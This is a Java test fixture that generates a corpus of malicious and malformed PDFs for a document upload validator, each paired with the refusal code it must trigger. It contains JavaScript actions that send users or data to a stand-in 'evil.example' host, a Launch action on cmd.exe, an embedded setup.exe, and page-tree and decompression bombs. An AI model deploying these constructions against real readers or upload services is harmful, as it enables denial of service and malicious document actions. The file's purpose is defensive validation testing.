package org.zhicheng.media.pdf;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.zip.Deflater;

import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDFormFieldAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;
import org.zhicheng.api.business.descriptor.Orientation;
import org.zhicheng.api.business.descriptor.PageSize;
import org.zhicheng.api.business.descriptor.PdfRule;

/** The corpus of bad PDFs: each one with the rule it is checked against and exactly the refusals it must get. */
final class BadPdfs {

    static final PdfRule A4_PORTRAIT_UPRIGHT = new PdfRule(PageSize.A4, Orientation.PORTRAIT, true, null);
    static final PdfRule A4_ONLY = new PdfRule(PageSize.A4, null, false, null);

    /**
     * One bad PDF.
     *
     * @param name what is wrong with it
     * @param content the file
     * @param rule the slot's rule, or null
     * @param codes exactly the refusal codes it must get
     * @param zh text the Chinese message of the first refusal must contain ("" for none)
     * @param en text the English message of the first refusal must contain ("" for none)
     */
    record Case(String name, byte[] content, PdfRule rule, Set<String> codes, String zh, String en) {

        @Override
        public String toString() {
            return name;
        }
    }

    private BadPdfs() {
    }

    static List<Case> all() {
        List<Case> cases = new ArrayList<>();
        Random random = new Random(20240601);
        byte[] good = SamplePdfs.a4(3);

        cases.add(bad("0 bytes", new byte[0], "pdf-unreadable", "0 字节", "0 bytes"));
        cases.add(bad("random bytes", randomBytes(random, 4096), "pdf-unreadable", "不是有效的 PDF", "not a valid PDF"));
        cases.add(bad("truncated PDF", Arrays.copyOf(good, good.length / 3), "pdf-unreadable", "", ""));
        cases.add(bad("PDF header then garbage", concat("%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII),
                randomBytes(random, 4096)), "pdf-unreadable", "", ""));
        cases.add(bad("encrypted with a user password", encrypted("owner", "user"), "pdf-encrypted",
                "请上传未加密的 PDF", "Upload an unencrypted PDF"));
        cases.add(bad("encrypted with an owner password only", encrypted("owner", ""), "pdf-encrypted",
                "请上传未加密的 PDF", "Upload an unencrypted PDF"));

        cases.add(bad("document-level JavaScript in the names tree", SamplePdfs.a4(1, doc -> {
            PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(Map.of("init", new PDActionJavaScript("app.alert('hi');")));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
            names.setJavascript(scripts);
            doc.getDocumentCatalog().setNames(names);
        }), "pdf-javascript", "文档级脚本", "document-level scripts"));
        cases.add(new Case("OpenAction JavaScript", SamplePdfs.a4(1, doc -> doc.getDocumentCatalog()
                .setOpenAction(new PDActionJavaScript("app.launchURL('http://evil.example');"))), null,
                Set.of("pdf-open-action", "pdf-javascript"), "打开文档时", "when it is opened"));
        cases.add(bad("OpenAction GoTo (no script, still an open action)", SamplePdfs.a4(2, doc -> {
            PDPageFitDestination destination = new PDPageFitDestination();
            destination.setPage(doc.getPage(1));
            PDActionGoTo goTo = new PDActionGoTo();
            goTo.setDestination(destination);
            doc.getDocumentCatalog().setOpenAction(goTo);
        }), "pdf-open-action", "打开文档时自动执行的动作", "performs an action when it is opened"));
        cases.add(bad("OpenAction as a plain destination array", RawPdf.of(
                "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595.28 841.89] >>"), "pdf-open-action", "", ""));
        cases.add(bad("link annotation with a JavaScript action on page 2", SamplePdfs.a4(2, doc -> {
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(72, 72, 200, 20));
            link.setAction(new PDActionJavaScript("this.submitForm('http://evil.example');"));
            addAnnotation(doc.getPage(1), link);
        }), "pdf-javascript", "第 2 页的链接或批注", "a link or annotation on page 2"));
        cases.add(bad("page /AA JavaScript on page 2", SamplePdfs.a4(3, doc -> {
            PDPageAdditionalActions actions = new PDPageAdditionalActions();
            actions.setO(new PDActionJavaScript("app.alert('open');"));
            doc.getPage(1).setActions(actions);
        }), "pdf-javascript", "第 2 页的页面事件", "the events of page 2"));
        cases.add(bad("form field /AA JavaScript", SamplePdfs.a4(1, doc -> {
            PDAcroForm form = new PDAcroForm(doc);
            doc.getDocumentCatalog().setAcroForm(form);
            PDTextField field = new PDTextField(form);
            field.setPartialName("name");
            PDFormFieldAdditionalActions actions = new PDFormFieldAdditionalActions();
            actions.setK(new PDActionJavaScript("event.value = 'x';"));
            field.getCOSObject().setItem(COSName.AA, actions.getCOSObject());
            PDAnnotationWidget widget = field.getWidgets().get(0);
            widget.setRectangle(new PDRectangle(72, 600, 200, 20));
            widget.setPage(doc.getPage(0));
            addAnnotation(doc.getPage(0), widget);
            form.getFields().add(field);
        }), "pdf-javascript", "表单", "the form"));
        cases.add(bad("embedded file in the names tree", SamplePdfs.a4(1, doc -> {
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(Map.of("setup.exe", SamplePdfs.attachment(doc)));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            doc.getDocumentCatalog().setNames(names);
        }), "pdf-embedded-file", "附件", "embedded files"));
        cases.add(bad("file attachment annotation on page 1", SamplePdfs.a4(1, doc -> {
            PDAnnotationFileAttachment attachment = new PDAnnotationFileAttachment();
            attachment.setRectangle(new PDRectangle(72, 72, 20, 20));
            attachment.setFile(SamplePdfs.attachment(doc));
            addAnnotation(doc.getPage(0), attachment);
        }), "pdf-embedded-file", "第 1 页的链接或批注", "on page 1"));

        List<String> lying = RawPdf.pages(1, "");
        lying.set(1, lying.get(1).replace("/Count 1", "/Count 100000000"));
        cases.add(bad("page-tree bomb: /Count 100000000 for one page", RawPdf.of(lying), "pdf-page-tree",
                "声明 100000000 页，实际只有 1 页", "declares 100000000 pages but contains 1"));
        cases.add(bad("cyclic page tree: a Pages node among its own kids", RawPdf.of(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"), "pdf-page-tree", "循环或重复引用",
                "refers back to itself"));
        cases.add(bad("page-tree bomb: each level lists the next one twice (2^30 pages)", RawPdf.of(doubling(30)),
                "pdf-page-tree", "循环或重复引用", "appears twice"));
        cases.add(bad("page tree 40 levels deep", RawPdf.of(deep(40)), "pdf-page-tree", "嵌套超过 32 层",
                "more than 32 levels deep"));
        cases.add(bad("page tree 20000 levels deep, cross-reference table broken",
                RawPdf.withBrokenXref(deep(20_000)), "pdf-page-tree", "", ""));
        cases.add(bad("501 pages, more than the platform limit", RawPdf.of(RawPdf.pages(501, "")),
                "pdf-too-many-pages", "超过 500 页", "more than 500 pages"));
        cases.add(new Case("3 pages where the slot allows 2", good, new PdfRule(null, null, false, 2),
                Set.of("pdf-too-many-pages"), "PDF 共 3 页，此处最多允许 2 页", "has 3 pages; at most 2"));
        cases.add(bad("no pages", RawPdf.of("<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [] /Count 0 >>"), "pdf-empty", "没有任何页面", "no pages"));

        cases.add(new Case("A3 page 2 where A4 is required", SamplePdfs.pages(
                new PDRectangle[] {SamplePdfs.A4, SamplePdfs.A3}, doc -> { }), A4_ONLY, Set.of("pdf-page-size"),
                "第 2 页为 297×420 毫米（A3），须为 A4（210×297 毫米）",
                "Page 2 is 297 × 420 mm (A3); it must be A4 (210 × 297 mm)"));
        cases.add(new Case("US Letter page where A4 is required", SamplePdfs.pages(
                new PDRectangle[] {PDRectangle.LETTER}, doc -> { }), A4_PORTRAIT_UPRIGHT, Set.of("pdf-page-size"),
                "第 1 页为 216×279 毫米（Letter 信纸），须为 A4", "Page 1 is 216 × 279 mm (US Letter); it must be A4"));
        cases.add(new Case("landscape page 2 where portrait is required", SamplePdfs.pages(
                new PDRectangle[] {SamplePdfs.A4, SamplePdfs.A4_LANDSCAPE}, doc -> { }),
                new PdfRule(PageSize.A4, Orientation.PORTRAIT, false, null), Set.of("pdf-orientation"),
                "第 2 页为横向（297×210 毫米），须为纵向", "Page 2 is landscape (297 × 210 mm); it must be portrait"));
        cases.add(new Case("page 3 rotated where upright pages are required", SamplePdfs.a4(3,
                doc -> doc.getPage(2).setRotation(90)), new PdfRule(PageSize.A4, null, true, null),
                Set.of("pdf-rotated"), "第 3 页旋转了 90°，请将页面摆正后重新生成 PDF", "Page 3 is rotated by 90°"));
        cases.add(new Case("page with no area", RawPdf.of(RawPdf.pages(1, "").stream()
                .map(o -> o.replace("/MediaBox [0 0 595.28 841.89]", "/MediaBox [0 0 0 841.89]")).toList()), null,
                Set.of("pdf-page-size"), "第 1 页没有有效的页面尺寸", "Page 1 has no valid size"));

        String link = "<< /Type /Annot /Subtype /Link /Rect [72 72 200 92] /A %s >>";
        cases.add(bad("JavaScript at the end of a cyclic /Next chain", RawPdf.of(withAnnotation(
                link.formatted("5 0 R"),
                "<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
                "<< /S /Named /N /NextPage /Next [5 0 R 7 0 R] >>",
                "<< /S /JavaScript /JS (app.alert\\(1\\)) /Next 5 0 R >>")), "pdf-javascript", "第 1 页", "page 1"));
        cases.add(bad("javascript: URI", RawPdf.of(withAnnotation(
                link.formatted("<< /S /URI /URI ( JavaScript:app.alert\\(1\\)) >>"))), "pdf-javascript", "", ""));
        cases.add(bad("Launch action", RawPdf.of(withAnnotation(
                link.formatted("<< /S /Launch /F (cmd.exe) >>"))), "pdf-launch", "启动外部程序", "starts a program"));
        cases.add(bad("SubmitForm action", RawPdf.of(withAnnotation(
                link.formatted("<< /S /SubmitForm /F << /FS /URL /F (http://evil.example) >> >>"))),
                "pdf-submit-form", "提交表单数据", "sends form data"));
        cases.add(bad("ImportData action", RawPdf.of(withAnnotation(
                link.formatted("<< /S /ImportData /F (data.fdf) >>"))), "pdf-import-data", "导入数据", "imports data"));
        cases.add(bad("screen (multimedia) annotation", RawPdf.of(withAnnotation(
                "<< /Type /Annot /Subtype /Screen /Rect [72 72 200 200] >>")), "pdf-multimedia", "多媒体",
                "multimedia"));
        cases.add(bad("JavaScript in a bookmark", RawPdf.of(
                "<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595.28 841.89] >>",
                "<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
                "<< /Title (Start) /Parent 4 0 R /A << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"),
                "pdf-javascript", "书签", "bookmarks"));
        cases.add(bad("JavaScript only in an object nothing points to", RawPdf.of(plus(RawPdf.pages(1, ""),
                "<< /S /JavaScript /JS (app.alert\\(1\\)) >>")), "pdf-javascript", "文档的其他部分",
                "another part of the document"));
        cases.add(bad("XFA form", RawPdf.of(
                "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595.28 841.89] >>",
                "<< /Length 0 >>\nstream\n\nendstream"), "pdf-xfa", "XFA", "XFA"));
        cases.add(bad("content stream that inflates to 70 MB", RawPdf.of(plus(
                RawPdf.pages(1, "/Contents 4 0 R"), deflateBomb(70)).stream().toList()),
                "pdf-oversized-stream", "超过 64 MB", "more than 64 MB"));
        cases.add(bad("object stream (hex + deflate) that decodes to 70 MB", objectStreamBomb(70),
                "pdf-oversized-stream", "超过 64 MB", "more than 64 MB"));
        // PDFBox gives up on the page at 500 levels of nesting, so the tree holds fewer pages than it declares.
        cases.add(bad("arrays nested 100000 deep in the only page", RawPdf.of(RawPdf.pages(1,
                "/Junk " + "[".repeat(100_000) + "]".repeat(100_000))), "pdf-page-tree",
                "声明 1 页，实际只有 0 页", "declares 1 page but contains 0"));
        return cases;
    }

    private static Case bad(String name, byte[] content, String code, String zh, String en) {
        return new Case(name, content, null, Set.of(code), zh, en);
    }

    private static void addAnnotation(PDPage page, org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation a) {
        try {
            page.getAnnotations().add(a);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** One A4 page (object 3) whose /Annots is object 4, followed by the given objects from 4 on. */
    private static List<String> withAnnotation(String... objects) {
        List<String> all = new ArrayList<>(List.of(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595.28 841.89] /Annots [4 0 R] >>"));
        all.addAll(List.of(objects));
        return all;
    }

    private static List<String> plus(List<String> objects, String more) {
        List<String> all = new ArrayList<>(objects);
        all.add(more);
        return all;
    }

    /** A chain of {@code depth} Pages nodes, each the only kid of the one before, ending in one page. */
    static List<String> deep(int depth) {
        List<String> objects = new ArrayList<>();
        objects.add("<< /Type /Catalog /Pages 2 0 R >>");
        for (int i = 0; i < depth; i++) {
            int self = i + 2;
            objects.add("<< /Type /Pages /Kids [" + (self + 1) + " 0 R] /Count 1"
                    + (i > 0 ? " /Parent " + (self - 1) + " 0 R" : "") + " >>");
        }
        objects.add("<< /Type /Page /Parent " + (depth + 1) + " 0 R /MediaBox [0 0 595.28 841.89] >>");
        return objects;
    }

    /** {@code levels} Pages nodes, each listing the next one twice: 2^levels pages from a few objects. */
    private static List<String> doubling(int levels) {
        List<String> objects = new ArrayList<>();
        objects.add("<< /Type /Catalog /Pages 2 0 R >>");
        for (int i = 0; i < levels; i++) {
            int next = i + 3;
            objects.add("<< /Type /Pages /Kids [" + next + " 0 R " + next + " 0 R] /Count " + (1L << (levels - i))
                    + " >>");
        }
        objects.add("<< /Type /Page /MediaBox [0 0 595.28 841.89] >>");
        return objects;
    }

    /** A content stream of {@code megabytes} MB of zeros, deflated (as a string of ISO-8859-1 bytes). */
    private static String deflateBomb(int megabytes) {
        byte[] packed = deflate(megabytes);
        return "<< /Length " + packed.length + " /Filter /FlateDecode >>\nstream\n"
                + new String(packed, StandardCharsets.ISO_8859_1) + "\nendstream";
    }

    private static byte[] deflate(int megabytes) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
        byte[] zeros = new byte[1024 * 1024];
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buffer = new byte[64 * 1024];
        for (int i = 0; i < megabytes; i++) {
            deflater.setInput(zeros);
            while (!deflater.needsInput()) {
                out.write(buffer, 0, deflater.deflate(buffer));
            }
        }
        deflater.finish();
        while (!deflater.finished()) {
            out.write(buffer, 0, deflater.deflate(buffer));
        }
        deflater.end();
        return out.toByteArray();
    }

    /**
     * A file whose page dictionary sits in an object stream encoded as hex over deflate, which expands to
     * {@code megabytes} MB: the raw scan cannot see through the hex, the object-stream check must.
     */
    static byte[] objectStreamBomb(int megabytes) {
        String hex = HexFormat.of().formatHex(deflate(megabytes)) + ">";
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        long[] offsets = new long[6];
        String[] bodies = {
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595.28 841.89] /Resources 5 0 R >>",
            "<< /Type /ObjStm /N 1 /First 4 /Length " + hex.length()
                    + " /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n" + hex + "\nendstream",
        };
        out.writeBytes("%PDF-1.7\n".getBytes(StandardCharsets.ISO_8859_1));
        for (int i = 0; i < bodies.length; i++) {
            offsets[i + 1] = out.size();
            out.writeBytes(((i + 1) + " 0 obj\n" + bodies[i] + "\nendobj\n").getBytes(StandardCharsets.ISO_8859_1));
        }
        long xref = out.size();
        // Cross-reference stream, /W [1 4 2]: free 0; objects 1-4 plain; 5 compressed in object stream 4; 6 itself.
        ByteArrayOutputStream rows = new ByteArrayOutputStream();
        row(rows, 0, 0, 65535);
        for (int i = 1; i <= 4; i++) {
            row(rows, 1, offsets[i], 0);
        }
        row(rows, 2, 4, 0);
        row(rows, 1, xref, 0);
        out.writeBytes(("6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length " + rows.size()
                + " >>\nstream\n").getBytes(StandardCharsets.ISO_8859_1));
        out.writeBytes(rows.toByteArray());
        out.writeBytes(("\nendstream\nendobj\nstartxref\n" + xref + "\n%%EOF\n").getBytes(StandardCharsets.ISO_8859_1));
        return out.toByteArray();
    }

    private static void row(ByteArrayOutputStream rows, int type, long field2, int field3) {
        rows.write(type);
        for (int shift = 24; shift >= 0; shift -= 8) {
            rows.write((int) (field2 >>> shift) & 0xff);
        }
        rows.write(field3 >>> 8 & 0xff);
        rows.write(field3 & 0xff);
    }

    private static byte[] encrypted(String owner, String user) {
        try (PDDocument doc = new PDDocument()) {
            doc.addPage(new PDPage(PDRectangle.A4));
            StandardProtectionPolicy policy = new StandardProtectionPolicy(owner, user, new AccessPermission());
            policy.setEncryptionKeyLength(128);
            doc.protect(policy);
            return SamplePdfs.save(doc);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] randomBytes(Random random, int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] all = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, all, a.length, b.length);
        return all;
    }
}
